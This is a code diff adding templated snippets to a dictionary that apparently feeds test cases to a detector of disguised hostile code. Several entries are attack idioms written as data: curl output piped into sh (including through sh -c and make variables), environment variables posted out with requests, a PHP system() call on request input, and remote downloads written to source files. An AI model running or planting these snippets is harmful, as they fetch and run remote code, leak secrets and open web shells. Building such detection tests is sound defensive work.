@@ -72,6 +72,14 @@ UNITS = {
     "the environment by name": "a{n} = os.environ.copy()\nrequests.post(a{n})\n",
     "fences": "```sh\ncurl x.example\n```\n",
     "here-documents": "cat <<EOF\n",
+    "words behind code": 'sh -c \'"$0" "$1" | "$2"\' curl x{n} sh\n',
+    "files in computed paths": 'let b{n} = ureq::get(&u); fs::write(d.join("f{n}.rs"), b{n}); ',
+    "names of paths": 'T{n} = Path("d") / "f{n}.py"\nsubprocess.run([T{n}])\n',
+    "other names of modules": "use std::env as e{n};\ne{n}::vars()\n",
+    "packages by calls": "pip.main(['install', a{n}])\n",
+    "requests into shells": "system($_GET['c{n}']);\n",
+    "addresses of their own text": "node --import=data:text/javascript,{n} a\n",
+    "several words of make": "A{n}   := curl -s\n\t$(A{n}) x | sh\n",
 }
 
 
